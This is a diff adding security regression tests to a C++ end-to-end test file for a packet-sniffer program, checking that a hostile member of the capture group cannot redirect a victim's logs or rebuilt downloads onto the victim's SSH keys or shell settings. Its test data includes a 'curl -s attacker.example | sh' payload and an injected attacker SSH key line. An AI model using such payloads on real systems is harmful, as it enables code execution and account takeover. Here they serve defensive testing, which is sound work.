@@ -1,13 +1,18 @@
 // The program as a new user meets it: copied alone into an empty folder and started on a
 // display of its own, with and without a window manager, driven by real key presses and
 // clicks, and judged by what the user sees (window titles) and what lands on disk.
+#include <fcntl.h>
+#include <grp.h>
 #include <gtest/gtest.h>
+#include <pwd.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include <algorithm>
-#include <cstring>
 #include <chrono>
+#include <cstring>
 #include <filesystem>
 #include <fstream>
 #include <functional>
@@ -22,8 +27,10 @@
 
 #include "Desktop.h"
 #include "app/SettingsRecord.h"
+#include "platform/LinuxSetupFiles.h"
 #include "support/FileContents.h"
 #include "support/LocalWebServer.h"
+#include "support/LoopbackHttpServer.h"
 #include "support/LoopbackTraffic.h"
 #include "support/TempDir.h"
 
@@ -158,22 +165,30 @@ class Journey : public testing::TestWithParam<bool> {
     }
 
     // Copies the program alone into the empty folder and starts it as the user would, with
-    // the capture capabilities scripts/run.sh gives the built program.
-    testing::AssertionResult startProgram() {
+    // the capture capability scripts/run.sh gives the built program (unless told otherwise),
+    // and with any variables added to the session's environment.
+    testing::AssertionResult startProgram(bool withCapability = true,
+                                          const Environment& extraEnvironment = {}) {
         const fs::path program = appFolder_ / ProgramName;
-        fs::copy_file(QHS_APP_PATH, program);
+        fs::copy_file(QHS_APP_PATH, program, fs::copy_options::overwrite_existing);
         // A change of owner drops file capabilities, so they are set last.
         if (::chown(program.c_str(), desktop().user().uid, desktop().user().gid) != 0) {
             return testing::AssertionFailure() << "cannot hand the program to the user";
         }
         fs::permissions(program, fs::perms(0755));
-        if (runCommand({"setcap", "cap_net_raw=p", program.string()},
-                       {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})
-                .exitCode != 0) {
+        if (withCapability && runCommand({"setcap", "cap_net_raw=p", program.string()},
+                                         {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})
+                                      .exitCode != 0) {
             return testing::AssertionFailure() << "setcap failed on " << program.string();
         }
+        return start(program, extraEnvironment);
+    }
+
+    testing::AssertionResult start(const fs::path& program,
+                                   const Environment& extraEnvironment = {}) {
         program_ = desktop().startAsUser({program.string(), "noinstall"}, appFolder_,
-                                         dir_.path() / "program.out", dir_.path() / "program.err");
+                                         dir_.path() / "program.out", dir_.path() / "program.err",
+                                         extraEnvironment);
         return program_.started() ? testing::AssertionSuccess()
                                   : testing::AssertionFailure() << "the program did not start";
     }
@@ -495,6 +510,288 @@ TEST_P(Journey, FirstStartInFileSnifferModeRebuildsADownloadInTheDownloadFolder)
     EXPECT_EQ(textField(savedSettings().fileOutputDirectory), downloads.string() + "/");
     expectNoQtWarnings();
 }
+
+// With the capture right, the program loads no code from a folder the user names: a style
+// plugin offered through QT_PLUGIN_PATH is taken by a copy without the right, and not by
+// the same copy once it has it.
+TEST_P(Journey, WithTheCaptureRightNoPluginComesFromAFolderTheUserNames) {
+    const fs::path plugins = desktop().userFolder("plugins");
+    const fs::path plugin = JOURNEY_STYLE_PLUGIN_PATH;
+    fs::create_directories(plugins / "styles");
+    fs::copy_file(plugin, plugins / "styles" / plugin.filename());
+    const fs::path marker = desktop().userFolder("marks") / "loaded";
+    const Environment offered = {"QT_PLUGIN_PATH=" + plugins.string(),
+                                 "QT_STYLE_OVERRIDE=journeymarker",
+                                 "JOURNEY_PLUGIN_MARKER=" + marker.string()};
+
+    ASSERT_TRUE(startProgram(false, offered));
+    ASSERT_TRUE(desktop().waitForWindow(ModeChoiceTitle)) << scene();
+    ASSERT_TRUE(fs::exists(marker)) << "the plugin is not one Qt would load at all";
+    program_.kill();
+    fs::remove(marker);
+
+    ASSERT_TRUE(startProgram(true, offered));
+    ASSERT_TRUE(desktop().waitForWindow(ModeChoiceTitle)) << scene();
+    EXPECT_FALSE(fs::exists(marker))
+        << "a plugin from the user's folder ran with the capture right";
+}
+
+// A user made for one test, in the capture group; removed again with the object.
+class ThrowAwayUser {
+  public:
+    ThrowAwayUser(const std::string& name, const fs::path& home) : name_(name) {
+        const group* capture = ::getgrnam(CaptureGroupName);
+        created_ =
+            capture != nullptr &&
+            runCommand({"useradd", "--system", "--no-create-home", "--home-dir", home.string(),
+                        "--shell", "/usr/sbin/nologin", "--groups", CaptureGroupName, name},
+                       {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})
+                    .exitCode == 0;
+        if (const passwd* entry = created_ ? ::getpwnam(name.c_str()) : nullptr) {
+            user_ = RunAs{entry->pw_uid, entry->pw_gid, capture->gr_gid};
+        }
+    }
+    ~ThrowAwayUser() {
+        if (created_) {
+            runCommand({"userdel", name_}, {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"});
+        }
+    }
+    ThrowAwayUser(const ThrowAwayUser&) = delete;
+    ThrowAwayUser& operator=(const ThrowAwayUser&) = delete;
+
+    bool created() const { return created_ && user_.uid != 0; }
+    const std::string& name() const { return name_; }
+    RunAs user() const { return user_; }
+
+  private:
+    std::string name_;
+    bool created_ = false;
+    RunAs user_;
+};
+
+// Writes a file as `who` would, through their own rights; false when they may not.
+bool writeAs(RunAs who, const fs::path& path, const std::string& bytes) {
+    const pid_t child = ::fork();
+    if (child == 0) {
+        const gid_t groups[] = {who.gid, who.otherGroup};
+        if (::setgroups(2, groups) != 0 || ::setgid(who.gid) != 0 || ::setuid(who.uid) != 0) {
+            ::_exit(2);
+        }
+        const int file = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+        const bool written = file >= 0 && ::write(file, bytes.data(), bytes.size()) ==
+                                              static_cast<ssize_t>(bytes.size());
+        ::_exit(written ? 0 : 1);
+    }
+    int status = 0;
+    return child > 0 && ::waitpid(child, &status, 0) == child && WIFEXITED(status) &&
+           WEXITSTATUS(status) == 0;
+}
+
+std::string recordBytes(const SettingsRecord& record) {
+    return std::string(reinterpret_cast<const char*>(&record), sizeof record);
+}
+
+// Two members of the capture group share an installed copy. The attacker writes every
+// settings file they can reach to aim the victim's program at the victim's own files; the
+// victim captures the attacker's traffic; nothing of the victim's changes.
+class HostileMember : public Journey {
+  protected:
+    void SetUp() override {
+        Journey::SetUp();
+        if (IsSkipped() || HasFatalFailure()) {
+            return;
+        }
+        for (const char* tool : {"useradd", "userdel"}) {
+            if (!haveCommand(tool)) {
+                GTEST_SKIP() << tool << " is missing";
+            }
+        }
+        // Installed by root as the installer does it.
+        const fs::path folder = dir_.path() / "opt" / "Quillharbour Sniffer 1.5";
+        fs::create_directories(folder);
+        fs::permissions(dir_.path() / "opt", fs::perms(0755));
+        fs::permissions(folder, fs::perms(0755));
+        installed_ = folder / ProgramName;
+        LinuxSetupFiles files;
+        ASSERT_TRUE(files.copyExecutable(QHS_APP_PATH, installed_.string()));
+        ASSERT_TRUE(files.allowCapture(installed_.string()));
+        EXPECT_EQ(
+            runCommand({"getcap", installed_.string()}, {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})
+                .output,
+            installed_.string() + " cap_net_raw=p\n");
+        // A settings file beside it that the group may write, as an administrator could
+        // have left it for everyone to share.
+        shared_ = folder / SettingsName;
+        writeFileContents(shared_, recordBytes(defaultSettings()));
+        ASSERT_EQ(::chown(shared_.c_str(), 0, ::getgrnam(CaptureGroupName)->gr_gid), 0);
+        fs::permissions(shared_, fs::perms(0660));
+
+        const std::string suffix = std::to_string(::getpid() % 100000);
+        const fs::path victimWork = dir_.path() / "victim";
+        attacker_ =
+            std::make_unique<ThrowAwayUser>("qhs-attacker-" + suffix, dir_.path() / "attacker");
+        victim_ = std::make_unique<ThrowAwayUser>("qhs-victim-" + suffix,
+                                                  victimWork / "session" / "home");
+        ASSERT_TRUE(attacker_->created() && victim_->created()) << "useradd failed";
+        desktop_.reset();
+        fs::create_directories(victimWork);
+        desktop_ = std::make_unique<Desktop>(victimWork, GetParam(), victim_->name());
+        ASSERT_EQ(desktop_->problem(), "");
+        appFolder_ = desktop().home();
+
+        const fs::path home = desktop().home();
+        fs::create_directories(home / ".ssh");
+        writeFileContents(home / ".ssh" / "authorized_keys", VictimKey);
+        writeFileContents(home / ".bashrc", VictimShell);
+        for (const fs::path& path :
+             {home / ".ssh", home / ".ssh" / "authorized_keys", home / ".bashrc"}) {
+            ASSERT_EQ(::chown(path.c_str(), desktop().user().uid, desktop().user().gid), 0);
+        }
+        fs::permissions(home / ".ssh", fs::perms(0700));
+    }
+
+    void TearDown() override {
+        Journey::TearDown();
+        victim_.reset();
+        attacker_.reset();
+    }
+
+    // The attacker writes `aimed` into every settings file they can; the victim's own must
+    // not be among them.
+    void aim(const SettingsRecord& aimed) {
+        const fs::path victimOwn = desktop().home() / ".config" / "quillharbour" / SettingsName;
+        EXPECT_TRUE(writeAs(attacker_->user(), shared_, recordBytes(aimed)));
+        EXPECT_FALSE(writeAs(attacker_->user(), victimOwn, recordBytes(aimed)));
+        EXPECT_FALSE(
+            writeAs(attacker_->user(), installed_.parent_path() / "other.QHS", recordBytes(aimed)));
+    }
+
+    // Opens the mode's window from whatever the start shows, as the victim would.
+    std::optional<unsigned long> reachModeWindow(bool packetMode) {
+        const char* wanted = packetMode ? WaitingSnifferTitle : FileSnifferTitle;
+        std::optional<unsigned long> window;
+        const auto shownOr = [&](const char* other) {
+            return waitFor(
+                [&] {
+                    window = desktop().findWindow(wanted);
+                    return window || desktop().findWindow(other);
+                },
+                15s);
+        };
+        if (!shownOr(ModeChoiceTitle)) {
+            return std::nullopt;
+        }
+        if (!window) {
+            if (!chooseMode(packetMode) || !shownOr(InterfaceTitle)) {
+                return std::nullopt;
+            }
+            if (!window && chooseTheOnlyInterface()) {
+                window = desktop().waitForWindow(wanted);
+            }
+        }
+        return window;
+    }
+
+    void expectTheVictimsFilesUntouched() {
+        const fs::path home = desktop().home();
+        EXPECT_EQ(fileContents(home / ".ssh" / "authorized_keys"), VictimKey);
+        EXPECT_EQ(fileContents(home / ".bashrc"), VictimShell);
+        // The victim's settings are the victim's alone.
+        const fs::path own = home / ".config" / "quillharbour" / SettingsName;
+        struct stat facts {};
+        ASSERT_EQ(::stat(own.c_str(), &facts), 0) << own;
+        EXPECT_EQ(facts.st_uid, desktop().user().uid);
+        EXPECT_EQ(facts.st_mode & 07777, 0600u);
+        EXPECT_EQ(facts.st_size, static_cast<off_t>(sizeof(SettingsRecord)));
+    }
+
+    static constexpr const char* VictimKey = "ssh-ed25519 AAAAvictim victim@desk\n";
+    static constexpr const char* VictimShell = "# the victim's shell settings\n";
+    fs::path installed_;
+    fs::path shared_;
+    std::unique_ptr<ThrowAwayUser> attacker_;
+    std::unique_ptr<ThrowAwayUser> victim_;
+};
+
+TEST_P(HostileMember, CannotAimTheVictimsPacketLogAtTheirFiles) {
+    SettingsRecord aimed = defaultSettings();
+    aimed.showModeChoice = 0;
+    aimed.soundOnNewPacket = 0;
+    setTextField(aimed.interfaceAddress, "127.0.0.1");
+    aimed.autoLog = 1;
+    aimed.logDataText = 1;
+    aimed.logIntervalSeconds = 1;
+    setTextField(aimed.logFilePath, (desktop().home() / ".ssh" / "authorized_keys").string());
+    aim(aimed);
+
+    ASSERT_TRUE(start(installed_));
+    const std::optional<unsigned long> window = reachModeWindow(true);
+    ASSERT_TRUE(window) << scene();
+    ASSERT_TRUE(press(*window, {"Return"}));
+    UdpSink sink(40820);
+    ASSERT_TRUE(sink.bound());
+    const auto attack = [] {
+        sendLoopbackUdp(40820, "\nssh-ed25519 AAAAattacker attacker@away\n");
+    };
+    ASSERT_TRUE(waitForListed(*window, 1, attack)) << scene();
+    // Long enough for a log written every second to have been written twice.
+    waitFor(
+        [&] {
+            attack();
+            return false;
+        },
+        2500ms);
+    ASSERT_TRUE(closeAndExitCleanly(*window));
+    expectTheVictimsFilesUntouched();
+}
+
+TEST_P(HostileMember, CannotAimTheVictimsRebuiltFilesAtTheirShellSettings) {
+    SettingsRecord aimed = defaultSettings();
+    aimed.showModeChoice = 0;
+    aimed.snifferMode = 1;
+    setTextField(aimed.interfaceAddress, "127.0.0.1");
+    setTextField(aimed.fileOutputDirectory, desktop().home().string() + "/");
+    setTextField(aimed.fileNameTemplate, "");
+    aimed.fileOverwrite = 1;
+    aimed.ackTimeoutMs = 300;
+    aim(aimed);
+
+    ASSERT_TRUE(start(installed_));
+    const std::optional<unsigned long> window = reachModeWindow(false);
+    ASSERT_TRUE(window) << scene();
+    ASSERT_TRUE(press(*window, {"Return"}));
+    ASSERT_TRUE(waitFor([&] { return capturing(program_.pid(), desktop().user().uid); }, 10s))
+        << "Start opened no capture; " << scene();
+
+    // The attacker's own server, and a download from it.
+    const std::string payload = "curl -s attacker.example | sh  # ran as the victim\n";
+    LoopbackHttpServer server(
+        "HTTP/1.1 200 OK\r\nContent-Type: application/bashrc\r\n"
+        "Content-Length: " +
+        std::to_string(payload.size()) + "\r\nConnection: close\r\n\r\n" + payload);
+    ASSERT_EQ(runProgram({"curl", "-s", "-o", "/dev/null",
+                          "http://127.0.0.1:" + std::to_string(server.port()) + "/rc"}),
+              0);
+    // The download is rebuilt somewhere in the victim's home (the download folder).
+    const auto rebuilt = [&] {
+        std::error_code error;
+        for (const auto& entry : fs::directory_iterator(desktop().home(), error)) {
+            if (entry.is_regular_file() && fileContents(entry.path()) == payload) {
+                return true;
+            }
+        }
+        return false;
+    };
+    ASSERT_TRUE(waitFor(rebuilt, 30s))
+        << "nothing rebuilt; the home holds:" << filesIn(desktop().home()) << "; " << scene();
+    ASSERT_TRUE(closeAndExitCleanly(*window));
+    expectTheVictimsFilesUntouched();
+}
+
+INSTANTIATE_TEST_SUITE_P(Desktops, HostileMember, testing::Bool(),
+                         [](const testing::TestParamInfo<bool>& info) {
+                             return info.param ? "WithWindowManager" : "WithoutWindowManager";
+                         });
 
 INSTANTIATE_TEST_SUITE_P(Desktops, Journey, testing::Bool(),
                          [](const testing::TestParamInfo<bool>& info) {
